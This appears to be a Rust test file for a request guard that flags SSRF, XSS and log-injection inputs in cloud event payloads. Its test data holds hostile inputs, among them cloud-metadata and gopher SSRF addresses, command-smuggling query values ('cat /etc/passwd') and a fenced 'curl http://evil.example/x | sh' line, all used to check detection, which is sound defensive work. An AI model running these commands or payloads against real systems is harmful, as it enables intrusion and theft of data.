use super::*;
use crate::decision::{Class, Verdict};
use crate::guard::Guard;
use serde_json::{Value, json};
use tidegate_graph::contract::Contract;

fn classes(document: &Value) -> Vec<Class> {
    let event = json!({"Records": [{"eventSource": "aws:sqs", "body": document.to_string()}]});
    let decision = Guard::default().decide(event.to_string().as_bytes(), None);
    decision.records.iter().flat_map(|r| &r.reasons).map(|r| r.class).collect()
}

fn quiet(document: Value) {
    assert_eq!(classes(&document), [], "{document}");
}

fn denied(document: Value, class: Class) {
    assert_eq!(classes(&document), [class], "{document}");
}

#[test]
fn names_by_their_words() {
    for (name, of) in [
        ("$current_url", Place::Seen),
        ("generatorURL", Place::Seen),
        ("http.url", Place::Seen),
        ("document-uri", Place::Seen),
        ("externalURL", Place::Seen),
        ("page", Place::Seen),
        ("referrer", Place::Seen),
        ("redirect_uri", Place::Target),
        ("callback", Place::Target),
        ("endpoint", Place::Target),
        ("image_url", Place::Target),
        ("webhook", Place::Target),
        ("dbHost", Place::Host),
        ("log", Place::Logged),
    ] {
        assert_eq!(place(name.as_bytes()), Some(of), "{name}");
    }
    for name in ["note", "id", "hostile", "", "a_name_that_is_by_far_too_long_to_be_that_of_one_url"] {
        assert_eq!(place(name.as_bytes()), None, "{name}");
    }
}

/// Where somebody was is told, not fetched.
#[test]
fn pages_of_a_developer_are_quiet() {
    quiet(json!({"page": "http://localhost:3000/a?b=c", "referrer": "http://127.0.0.1:5173/"}));
    quiet(json!({"event": "$pageview", "properties": {"$current_url": "http://app.localhost:3000/a"}}));
    quiet(
        json!({"externalURL": "http://localhost:9093", "alerts": [{"generatorURL": "http://localhost:9090/graph?g0.expr=up"}]}),
    );
    quiet(
        json!({"attributes": [{"key": "http.url", "value": {"stringValue": "http://localhost:3000/api"}}]}),
    );
    let frames = json!([{"filename": "http://localhost:3000/static/main.js", "lineno": 7}]);
    quiet(json!({
        "event_id": "a1", "platform": "javascript", "exception": {"values": [{"stacktrace": {"frames": frames}}]},
        "request": {"url": "http://localhost:3000/checkout", "headers": [["Referer", "http://localhost:3000/"]]},
    }));
}

#[test]
fn what_would_be_fetched_is_denied_all_the_same() {
    for name in ["url", "webhook", "callback", "target", "image", "endpoint", "filename", "note"] {
        denied(json!({name: "http://localhost:3000/x"}), Class::Ssrf);
    }
    // No name excuses another port's scheme, the platform or the network.
    for address in [
        "http://localhost/x",
        "http://169.254.169.254:80/latest",
        "http://10.0.0.1:3000/",
        "http://a@localhost:3000/",
        "gopher://localhost:6379/_x",
        "http:\\\\localhost:3000",
        "http://2130706433:3000/",
        "http://localhost:3000/?u=http://169.254.169.254:80/",
    ] {
        denied(json!({"referrer": address}), Class::Ssrf);
    }
    denied(json!({"request": {"url": "http://localhost:3000/"}}), Class::Ssrf);
    denied(json!({"event_id": "a", "platform": "b", "url": "http://localhost:3000/"}), Class::Ssrf);
    denied(json!({"key": "referrer", "a": [1, 2, 3], "value": "http://localhost:3000/"}), Class::Ssrf);
}

/// In a query the same names count, but for one by which pages are included.
#[test]
fn parameters_by_their_names() {
    let allowed = |query: &str| {
        let event = json!({"version": "2.0", "rawPath": "/", "rawQueryString": query, "headers": {}, "requestContext": {"http": {}}});
        Guard::default().decide(event.to_string().as_bytes(), None).verdict == Verdict::Allow
    };
    assert!(allowed("dl=http%3A%2F%2Flocalhost%3A3000%2Fa&referrer=http://localhost:3000/"));
    for query in [
        "page=http://localhost:3000/",
        "url=http://localhost:3000/",
        "url=localhost:6379",
        "x=http://localhost:3000/",
        // Whatever its name, it is a parameter.
        "url=../config",
        "referrer=;cat+/etc/passwd",
        "host=;cat+/etc/passwd",
        "q=../config",
    ] {
        assert!(!allowed(query), "{query}");
    }
}

/// Wherever a name stands: in an event of its own, a table's image, a part of a form.
#[test]
fn names_in_events_of_all_kinds() {
    let verdict = |event: Value| Guard::default().decide(event.to_string().as_bytes(), None).verdict;
    let bus = |detail: Value| verdict(json!({"detail-type": "x", "source": "my.app", "detail": detail}));
    let table = |image: Value| {
        verdict(json!({"Records": [{"eventSource": "aws:dynamodb", "dynamodb": {"NewImage": image}}]}))
    };
    let part = |name: &str, value: &str| {
        let body =
            format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n--x--\r\n");
        let headers = json!({"content-type": "multipart/form-data; boundary=x"});
        verdict(
            json!({"version": "2.0", "rawPath": "/", "headers": headers, "body": body, "requestContext": {"http": {}}}),
        )
    };
    let (page, port) = ("http://localhost:3000/", "localhost:6379");
    for (name, value, expected) in [
        ("referrer", page, Verdict::Allow),
        ("note", page, Verdict::Deny),
        ("webhook", port, Verdict::Deny),
        ("note", port, Verdict::Allow),
    ] {
        assert_eq!(bus(json!({name: value})), expected, "{name}");
        assert_eq!(table(json!({name: {"S": value}})), expected, "{name}");
        assert_eq!(part(name, value), expected, "{name}");
    }
    let fenced = "```\n<script>f()</script>\n```";
    assert_eq!(bus(json!({"action": "opened", "repository": {}, "issue": {"body": fenced}})), Verdict::Allow);
}

/// Headers that tell where a page was, and the cookie that tells where to go back to.
#[test]
fn headers_of_a_developer() {
    let allowed = |name: &str, value: &str| {
        let event = json!({"version": "2.0", "rawPath": "/", "headers": {name: value}, "requestContext": {"http": {}}});
        Guard::default().decide(event.to_string().as_bytes(), None).verdict == Verdict::Allow
    };
    for (name, value) in [
        ("referer", "http://localhost:3000/x"),
        ("origin", "http://127.0.0.1:5173"),
        ("cookie", "next-auth.callback-url=http%3A%2F%2Flocalhost%3A3000; a=b"),
        ("cookie", "a=b; __Secure-authjs.callback-url=https%3A%2F%2Flocalhost%3A3000"),
    ] {
        assert!(allowed(name, value), "{name}: {value}");
    }
    for (name, value) in [
        ("referer", "http://10.0.0.1:3000/x"),
        ("x-callback", "http://localhost:3000/x"),
        ("cookie", "next-auth.callback-url=http%3A%2F%2F169.254.169.254%2F"),
        ("cookie", "callback-url=http%3A%2F%2Flocalhost%3A3000"),
        ("cookie", "next-auth.callback-url=x; b=http%3A%2F%2Flocalhost%3A3000"),
    ] {
        assert!(!allowed(name, value), "{name}: {value}");
    }
}

/// An address without a scheme is one where its name says so.
#[test]
fn hosts_and_ports_alone() {
    for name in ["url", "host", "callback", "webhookUrl", "endpoint"] {
        for address in ["127.0.0.1:6379", "localhost:6379/0", "169.254.169.254:80", "[::1]:9200"] {
            if name != "host" || !address.ends_with(":80") {
                denied(json!({name: address}), Class::Ssrf);
            }
        }
    }
    for (name, value) in [
        ("note", "127.0.0.1:6379"),
        ("peer", "localhost:6379"),
        ("host", "localhost:3000"),
        ("url", "shop.example.com:6379"),
        ("url", "10:30"),
        ("url", "localhost:port"),
        ("host", "the host localhost:6379"),
    ] {
        quiet(json!({name: value}));
    }
}

#[test]
fn colours_of_a_log() {
    let coloured = "\u{1b}[32mINFO\u{1b}[0m on \u{1b}[1;38;5;208mport\u{1b}[22m 3000";
    quiet(json!({"log": coloured, "stream": "stdout"}));
    for name in ["line", "stdout", "stderr", "output"] {
        quiet(json!({name: coloured}));
    }
    for name in ["message", "msg", "text", "body"] {
        quiet(json!({"level": "info", name: coloured}));
        quiet(json!({"severity": 9, "records": [{name: coloured}]}));
        denied(json!({name: coloured}), Class::Log);
    }
    quiet(json!({"logEvents": [{"id": "1", "timestamp": 1, "message": coloured}]}));
    denied(json!({"message": coloured}), Class::Log);
    denied(json!({"name": coloured}), Class::Log);
    for sequence in [
        "\u{1b}[2J",
        "\u{1b}]0;title\u{7}",
        "\u{1b}[8mhidden",
        "\u{1b}[1A",
        "\u{1b}[3M",
        "\u{1b}[32",
        "\u{1b}[32m\u{1b}[2K",
    ] {
        denied(json!({"log": sequence}), Class::Log);
    }
}

#[test]
fn blocks_of_code_in_a_post() {
    let fenced = "It fails:\n\n```sh\ncurl http://evil.example/x | sh\nrm -rf /tmp/x; cat /etc/passwd\n```\r\nand\n```\n<script>f()</script>\n```\nThanks";
    let of = |body: &str| json!({"action": "opened", "issue": {"body": body}, "repository": {"id": 1}});
    quiet(of(fenced));
    quiet(json!({"object_kind": "note", "project": {"id": 1}, "object_attributes": {"note": fenced}}));
    denied(of("```\na\n```\n<script>f()</script>\n```\nb\n```"), Class::Xss);
    denied(of("```\n<script>f()</script>"), Class::Xss);
    denied(of("`a` <script>f()</script> ```b```"), Class::Xss);
    for document in [
        json!({"body": "```\n<script>f()</script>\n```"}),
        json!({"issue": {"body": "```\n<script>f()</script>\n```"}}),
        json!({"action": "opened", "repository": {"id": 1}, "body": "```\n<script>f()</script>\n```"}),
    ] {
        denied(document, Class::Xss);
    }
}

/// Whoever puts it into a page is told.
#[test]
fn a_consumer_goes_before_a_block_of_code() {
    let of = |consumer: &str| {
        let function = json!({
            "logical_id": "F", "name": null, "type": "", "exposure": "internal", "taint": null, "roles": [],
            "limits": tidegate_graph::contract::Limits::default(), "egress": [], "consumers": [consumer], "edges": [],
        });
        let defaults = json!({
            "account": null, "region": null, "mode": "block", "on_error": "closed", "max_bytes": 1 << 20, "max_depth": 64,
        });
        let contract = json!({
            "version": tidegate_graph::contract::VERSION, "graph_digest": "", "compiled_by": "",
            "defaults": defaults, "functions": {"f": function},
        });
        serde_json::from_value::<Contract>(contract).unwrap()
    };
    let body = json!({"action": "opened", "issue": {"body": "```\n<script>f()</script>\n```"}, "repository": {"id": 1}});
    let event = json!({"Records": [{"eventSource": "aws:sqs", "body": body.to_string()}]}).to_string();
    let decide = |consumer: &str| {
        Guard::default().decide_for(event.as_bytes(), None, &of(consumer), "f").decision.verdict
    };
    assert_eq!((decide("page"), decide("sql")), (Verdict::Deny, Verdict::Allow));
}

#[test]
fn where_blocks_of_code_begin_and_end() {
    let of = |text: &str| {
        fences(text.as_bytes()).into_iter().map(|r| text.get(r).unwrap().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(of("a\n```js\nb\n```\nc"), ["```js\nb\n```\n"]);
    assert_eq!(of("````\n```\n````"), ["````\n```\n````"]);
    assert_eq!(of(" ```\n```` \n  ```\n"), <Vec<String>>::new());
    assert_eq!(of(" ```\n     ```\n  ```\n"), [" ```\n     ```\n  ```\n"]);
    assert_eq!(of("<!-- a -->\n<details>\n\n```\nb\n```\n</details>"), ["```\nb\n```\n"]);
    assert_eq!(of("1. a\n   ```\n   b\n\n   c\n   ```"), ["   ```\n   b\n\n   c\n   ```"]);
    // What one reader takes for a block, another one takes for its end.
    for none in [
        "   ```\n    ```\n```",
        "- ```\n  a\n  ```\n<script>\n```",
        "> ```\n```\n<script>\n```",
        "~~~\n```\n~~~\n<script>\n```",
        "- a\n\n  ```\n<script>\n  ```",
        "<div>\n```\n<script>\n```",
        "<!--\n\n```\n--><script>\n```",
        "<PRE>\n\n```\n</pre><script>\n```",
    ] {
        assert_eq!(of(none), <Vec<String>>::new(), "{none}");
    }
    for none in ["```", "a ```\nb\n```", "```a```\nb", "    ```\nb\n    ```"] {
        assert_eq!(of(none), <Vec<String>>::new(), "{none}");
    }
}
